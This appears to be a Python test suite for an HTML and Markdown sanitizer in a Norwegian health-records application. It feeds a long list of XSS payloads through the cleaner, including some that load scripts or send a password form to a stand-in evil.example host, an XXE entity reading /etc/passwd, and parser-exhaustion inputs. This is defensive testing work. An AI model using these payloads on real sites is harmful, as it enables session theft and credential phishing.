"""Nothing that acts, fetches or hides gets through; what a person wrote does."""

import re
import time
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from innsyn.records.hostile_text import (
    DEPTH,
    LIMIT,
    below,
    clean,
    clean_markdown,
    is_markdown,
    plain,
    words_of,
)
from innsyn.web.filters import markup_of_note

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img/src/onerror=alert(1)>",
    '<IMG """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x#y"/></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    '<p style="background:url(//evil.example/leak)">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    "<form action=//evil.example><input name=password><button>Logg inn</button></form>",
    "<p onclick=alert(1) onmouseover=alert(2)>x</p>",
    '<p id="getElementById" name="cookie" class="ds-button">x</p>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php alert(1) ?><p>x</p>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<td colspan='1\" onclick=alert(1) x=\"'>x</td>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&#60;img src=x onerror=alert(1)&#62;</p>",
    "<select><img src=x onerror=alert(1)></select>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "{{constructor.constructor('alert(1)')()}}<p>x</p>",
]
ALLOWED = re.compile(
    r"<(?:/?(?:p|div|h[2-6]|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|b|strong|i|em|u|sub|sup|pre|blockquote)"
    r"|br|hr|/?td|/?th|t[dh](?: (?:colspan|rowspan)=\"[1-9]\d?\"| scope=\"(?:col|row|colgroup|rowgroup)\")*)>"
)


def harmless(html: str) -> None:
    """Every `<` begins one of the few tags, without anything but a cell's attributes."""
    assert "<" not in ALLOWED.sub("", html), html
    assert unicodedata.is_normalized("NFC", ALLOWED.sub("\n", html))
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]", html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_is_left(payload: str) -> None:
    for markup in (
        payload,
        f"<div><table><tr><td>{payload}</td></tr></table></div>",
        f"<p>før{payload}etter</p>",
    ):
        cleaned = clean(markup).html
        harmless(cleaned)
        assert clean(cleaned).html == cleaned
        harmless(clean_markdown(markup).html)


def test_what_a_person_wrote_is_left() -> None:
    written = (
        '<div xmlns="http://www.w3.org/1999/xhtml" lang="nb">'
        '<h:p>Kari&nbsp;er <b class="x">bedre</b> &amp; 38&#176;C &lt; 39</h:p>'
        '<table border="1"><tr><th scope="col" colspan="2">Prøve</th></tr>'
        '<tr><td rowspan="2">HbA1c</td><td/></tr></table>'
        '<ul><li>En</li><li>To<br/>linjer</li></ul><p/><a href="https://helsenorge.no">Helsenorge</a></div>'
    )
    assert clean(written).html == (
        "<div><p>Kari&nbsp;er <b>bedre</b> &amp; 38°C &lt; 39</p>"
        '<table><tbody><tr><th colspan="2" scope="col">Prøve</th></tr>'
        '<tr><td rowspan="2">HbA1c</td><td></td></tr></tbody></table>'
        "<ul><li>En</li><li>To<br>linjer</li></ul><p></p>Helsenorge</div>"
    )


def test_hidden_and_turning_signs_go_also_when_they_come_as_entities() -> None:
    assert clean("<p>ik\u200bke &#x202e;syk&#8236; \ufeffnå</p>").html == "<p>ikke syk nå</p>"
    assert plain("ik\u200bke\x00 \u202esyk\r\nnå\u2028her").text == "ikke syk\nnå\nher"


def test_letters_are_composed_but_never_with_a_tag() -> None:
    assert clean("<p>bla\u030aba\u0308r</p>").html == "<p>blåbär</p>"
    assert clean("<p>&#x338;x</p>").html == "<p>\u0338x</p>"
    harmless(clean("<p>\u0338</p>").html.replace("\u0338", ""))


def test_headings_are_below_the_pages_and_skip_no_level() -> None:
    assert (
        clean("<h1>A</h1><h4>B</h4><h6>C</h6><h1>D</h1>").html == "<h2>A</h2><h3>B</h3><h4>C</h4><h2>D</h2>"
    )
    assert below("<h2>A</h2><h3>B</h3>", 3) == "<h4>A</h4><h4>B</h4>"


def test_cdata_is_text_and_comments_are_nothing() -> None:
    assert (
        clean("<p>a<![CDATA[1 < 2 & <b>]]>b<!-- skjult -->c</p>").html == "<p>a1 &lt; 2 &amp; &lt;b&gt;bc</p>"
    )


def test_empty_lines_before_preformatted_text_go_at_once() -> None:
    assert clean("<pre>" + "\n" * 20 + "x\n y</pre>").html == "<pre>x\n y</pre>"


def test_what_is_too_long_is_cut_and_says_so() -> None:
    cleaned = clean("<p>" + "ord &amp; " * 20_000)
    assert cleaned.cut
    assert len(cleaned.html) <= LIMIT
    assert clean(cleaned.html).html == cleaned.html
    written = plain("ord " * 20_000)
    assert (written.cut, len(written.text) <= LIMIT) == (True, True)
    assert (clean("<p>kort</p>").cut, plain("kort").cut) == (False, False)


def test_nesting_deeper_than_the_limit_keeps_its_text() -> None:
    cleaned = clean("<div>" * 500 + "innerst" + "</div>" * 500).html
    assert cleaned.count("<div>") == DEPTH
    assert words_of(cleaned) == "innerst"


@pytest.mark.parametrize(
    "bomb",
    ["<div>" * 200_000, "<div><!--</div>-->" * 50_000, '<div title="</div>">' * 50_000, "<a" * 500_000, "<b>" * 300_000,
     '<div "><div ' * 80_000, "<table><td>" * 90_000, "<!--" * 250_000, "<svg>" * 200_000, "<div a='" * 125_000,
     "&" * 1_000_000, "<" * 1_000_000, "<p><b><i>" * 110_000],
    ids=lambda bomb: bomb[:18],
)  # fmt: skip
def test_a_megabyte_of_nesting_takes_no_time(bomb: str) -> None:
    clean("<p>warm</p>")
    took = min(_seconds(bomb) for _ in range(3))
    # 5–50 ms on a slow core. nh3 alone needs minutes for some of these, so the room is for a busy machine only.
    assert took < (0.05 if bomb.startswith("<div><") else 0.25)


def _seconds(bomb: str) -> float:
    begun = time.process_time()
    clean(bomb)
    return time.process_time() - begun


TAGS = "p div table tr td th ul li b i pre h1 h3 br a svg span".split()
SIGNS = [
    "\n",
    " ",
    "tekst",
    "&amp;",
    "&lt;",
    "&#x202e;",
    "&#13;",
    "&nbsp;",
    "\u0338",
    "\u030a",
    "<",
    ">",
    "&",
    '"',
]
PIECES = st.sampled_from(
    [*PAYLOADS, *(f"<{tag}>" for tag in TAGS), *(f"</{tag}>" for tag in TAGS), *SIGNS, "<!--", "-->", "é"]
)


@given(st.one_of(st.text(), st.lists(PIECES, max_size=30).map("".join)))
@example("<pre>\n\n\nx</pre>")
@example("<p><table><p>x")
@example("<h1><a><h2>x")
@example("<b><p><b><p><b><p>x</b>y")
@example("<p>&#x338;</p>")
@example("<table>a<tr>b<td>c")
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    cleaned = clean(text).html
    harmless(cleaned)
    assert clean(cleaned).html == cleaned
    # The page cleans once more, and has nothing to do.
    assert markup_of_note(cleaned) == cleaned


@given(st.text())
def test_plain_text_twice_is_plain_text_once(text: str) -> None:
    assert plain(plain(text).text) == plain(text)


@given(st.text(alphabet="#*_-<>[]()`! \n|ab&"))
def test_markdown_is_harmless(text: str) -> None:
    html = clean_markdown(text).html
    harmless(html)
    assert clean(html).html == html


def test_markdown_shows_addresses_as_they_are_written() -> None:
    assert (
        clean_markdown("Se [Helsenorge](https://helsenorge.no)").html
        == "<p>Se [Helsenorge](https://helsenorge.no)</p> "
    )


def test_markdown_is_known_by_two_headings() -> None:
    assert is_markdown("# Plage\n- Hoste\n\n# Plan\n")
    assert not is_markdown("# femur\nOperert\n#2 dager")
    assert not is_markdown("Vanlig tekst")
